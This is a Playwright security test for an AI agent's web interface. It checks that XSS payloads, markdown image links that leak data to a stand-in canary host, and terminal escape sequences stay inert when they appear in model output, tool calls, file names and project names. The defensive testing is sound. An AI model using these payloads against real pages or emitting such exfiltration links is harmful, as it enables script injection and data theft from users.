import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { expect, type Page } from "@playwright/test";
import {
  button,
  expectStatus,
  lastTurn,
  message,
  openSession,
  post,
  scriptedProvider,
  send,
} from "./owner.ts";
import type { Stack } from "./stack.ts";
import { test } from "./stack-test.ts";

const canary = "http://canary.invalid";
const attacks = [
  `<script>window.hacked = 1; fetch("${canary}/script")</script>`,
  `<img src=x onerror="window.hacked = 1; fetch('${canary}/onerror')">`,
  `<svg onload="window.hacked = 1"><style>@import "${canary}/style";</style></svg>`,
  `<iframe src="${canary}/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
  `<a href="javascript:window.hacked = 1" autofocus onfocus="window.hacked = 1">raw link</a>`,
  `![leak](${canary}/image?d=secret)`,
  `![leak][ref]\n\n[ref]: ${canary}/reference`,
  "[click me](javascript:window.hacked=1)",
  "[data](data:text/html,<script>parent.hacked=1</script>)",
  `[vb](vbscript:msgbox) <${canary}/autolink>`,
  "`<b onmouseover=window.hacked=1>` &lt;script&gt;window.hacked=1&lt;/script&gt;",
];
const escapes = [
  "\u001b]8;;javascript:window.hacked=1\u0007osc link\u001b]8;;\u0007",
  "\u001b]0;hijacked title\u0007\u001b]52;c;aGFja2Vk\u0007",
  "\u001b[2J\u001b[H\u001b[31m<img src=x onerror=window.hacked=1>\u001b[0m",
  "\u001b[38;5;999999m\u001b[?1049hend",
];

/** Every request of the page that leaves the stack; there must be none. */
function watchOutside(page: Page, { url }: Stack): string[] {
  const outside: string[] = [];
  page.on("request", (request) => {
    const to = request.url();
    if (!to.startsWith(url) && !to.startsWith("data:") && !to.startsWith("blob:")) {
      outside.push(to);
    }
  });
  page.on("websocket", (socket) => {
    if (new URL(socket.url()).host !== new URL(url).host) {
      outside.push(socket.url());
    }
  });
  return outside;
}

async function expectInert(page: Page): Promise<void> {
  expect(await page.evaluate("window.hacked")).toBeUndefined();
  const found = await page.evaluate(`[...document.querySelectorAll("body *")].flatMap((element) => {
    const bad = [...element.attributes].filter(({ name, value }) =>
      name.startsWith("on") || /^\\s*(javascript|vbscript|data:text)/i.test(value));
    const isForeign = /^(IFRAME|OBJECT|EMBED)$/.test(element.tagName) ||
      (element.tagName === "IMG" && !element.src.startsWith(location.origin));
    return bad.length > 0 || isForeign ? [element.outerHTML.slice(0, 200)] : [];
  })`);
  expect(found).toEqual([]);
}

test("hostile words of the model, tools, files, titles and diffs stay words, and nothing leaves the page", async ({
  page,
  stack,
  model,
}) => {
  const outside = watchOutside(page, stack);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const fileName = `<img src=x onerror=window.hacked=1>.md`;
  const folder = join(stack.roots, "hostile");
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, fileName), attacks.join("\n"));
  await writeFile(join(folder, "AGENTS.md"), attacks.join("\n\n"));
  const { project } = await post<{ project: { id: string } }>(page.request, stack, "/projects", {
    name: attacks[1]?.slice(0, 90),
    directory: folder,
  });
  const providerId = await scriptedProvider(page.request, stack, model.baseUrl);
  await openSession(page, stack, { providerId, projectId: project.id });

  const printed = [...attacks, ...escapes].join("\n");
  model.answer((call) => {
    const step = call.toolResults.length;
    if (step === 0) {
      call.text(`${attacks.join("\n\n")}\n\n\`\`\`html\n${attacks.join("\n")}\n\`\`\`\n\n`);
      call.tool("shell", { command: `cat <<'END'\n${printed}\nEND` });
      call.tool("write_file", { path: "attack.html", content: attacks.join("\n") });
    } else if (step === 2) {
      call.tool("ask_user", {
        question: attacks[0],
        options: [{ label: attacks[1] }, { label: attacks[7] }],
      });
    } else {
      call.text(`The end. ${attacks[5]}`);
    }
    call.end();
  });
  await send(page, `${attacks[0]} ${attacks[5]}`);
  const question = page.getByRole("region", { name: "Question" });
  await expect(question).toContainText("<script>window.hacked", { timeout: 30_000 });
  await expectInert(page);
  await message(page).fill(attacks[1] ?? "");
  await button(page, "Answer").click();
  await expectStatus(page, "finished");
  await expect(lastTurn(page)).toContainText("The end.");
  await expect(lastTurn(page)).toContainText("<svg onload=");
  await expect(lastTurn(page)).toContainText("osc link");
  await expectInert(page);
  await expect(page).not.toHaveTitle(/hijacked/);

  await page.keyboard.press("Control+j");
  const inspector = page.getByRole("complementary", { name: "Inspector" });
  await expect(inspector).toContainText("attack.html");
  await expect(inspector).toContainText("<iframe src=");
  await button(inspector, "Files").click();
  await button(inspector, fileName).click();
  await expect(inspector).toContainText("<svg onload=");
  await expectInert(page);

  await page.reload();
  await expect(lastTurn(page)).toContainText("The end.");
  await expectInert(page);
  for (const path of ["/", `/projects/${project.id}`]) {
    await page.goto(stack.url + path);
    await expect(page.getByText("<script>window.hacked").first()).toBeVisible();
    await expectInert(page);
  }
  expect(outside).toEqual([]);
  expect(dialogs).toEqual([]);
});
